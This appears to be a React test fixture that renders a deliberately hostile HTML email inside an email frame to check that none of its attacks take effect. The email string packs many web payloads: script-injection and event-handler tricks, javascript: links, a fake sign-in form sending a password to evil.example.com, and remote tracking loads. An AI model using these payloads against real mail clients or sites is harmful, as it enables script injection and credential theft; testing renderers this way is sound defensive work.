import { EmailFrame } from '../../entities/email/email-frame.tsx';

/** An email that tries everything. None of it may happen. */
const HOSTILE = `<!doctype html>
<html lang="en" onload="parent.hacked=1"><head>
<base href="https://evil.example.com/">
<meta http-equiv="refresh" content="0;url=https://evil.example.com/refresh">
<link rel="stylesheet" href="https://evil.example.com/link.css">
<link rel="preload" as="image" href="https://evil.example.com/preload.png">
<style>@import url(https://evil.example.com/import.css);
@font-face{font-family:evil;src:url(https://evil.example.com/font.woff2)}
p{font-family:evil;background:url(https://evil.example.com/style.png)}</style>
<script>parent.hacked=1;fetch('https://evil.example.com/script')</script>
<script src="https://evil.example.com/script.js"></script>
</head><body onload="parent.hacked=1" background="https://evil.example.com/body.png">
<p id="shown" onclick="parent.hacked=1">A harmless sentence.</p>
<img id="https" src="https://images.example.com/picture.png" alt="picture" onerror="parent.hacked=1">
<img src="http://evil.example.com/insecure.png" alt="insecure">
<img src="x" srcset="http://evil.example.com/set.png 2x" alt="set">
<svg onload="parent.hacked=1"><script>parent.hacked=1</script><image href="http://evil.example.com/svg.png"/></svg>
<math><mtext><style><img src=x onerror="parent.hacked=1"></style></mtext></math>
<form action="https://evil.example.com/form"><input name="password"><button>Sign in again</button></form>
<iframe src="https://evil.example.com/frame"></iframe>
<object data="https://evil.example.com/object"></object><embed src="https://evil.example.com/embed">
<video src="https://evil.example.com/video" poster="http://evil.example.com/poster.png" autoplay></video>
<a id="script" href="javascript:parent.hacked=1">runs a script</a>
<a id="top" href="https://evil.example.com/top" target="_top">replaces the app</a>
<a href="https://evil.example.com/ping" ping="https://evil.example.com/pinged">pings</a>
</body></html>`;

export default function HostileEmail() {
  return <EmailFrame html={HOSTILE} width={600} scheme="light" title="A hostile email" />;
}
